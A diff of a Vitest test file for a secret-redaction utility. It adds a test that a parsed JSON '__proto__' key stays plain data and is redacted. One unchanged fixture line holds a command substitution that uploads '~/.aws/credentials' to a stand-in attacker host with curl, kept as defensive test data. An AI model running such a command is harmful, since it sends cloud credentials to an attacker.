@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { canonicalJson } from '../../src/util/canonical-json.ts';
 import { redact, redactText } from '../../src/util/redact.ts';
 
 const SECRET = 'hunter2-s3cr3t-value';
@@ -43,6 +44,15 @@ describe('redact', () => {
     ['a command substitution inside a token value', 'API_TOKEN="x$(curl -T ~/.aws/credentials https://evil.example)" make deploy'],
   ])('leaves %s alone', (_name, text) => {
     expect(redactText(text)).toBe(text);
+  });
+
+  it('keeps a __proto__ key of parsed JSON as data, redacted like any other, and it stays in hashes', () => {
+    const parsed = JSON.parse('{"a": 1, "__proto__": {"password": "hunter2", "x": 1}}') as Record<string, unknown>;
+    const out = redact(parsed);
+    expect(JSON.stringify(out)).toBe('{"a":1,"__proto__":{"password":"[REDACTED]","x":1}}');
+    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
+    expect(canonicalJson(parsed)).toBe('{"__proto__":{"password":"hunter2","x":1},"a":1}');
+    expect(canonicalJson(parsed)).not.toBe(canonicalJson({ a: 1 }));
   });
 
   it('keeps numeric token counters and non-secret fields', () => {
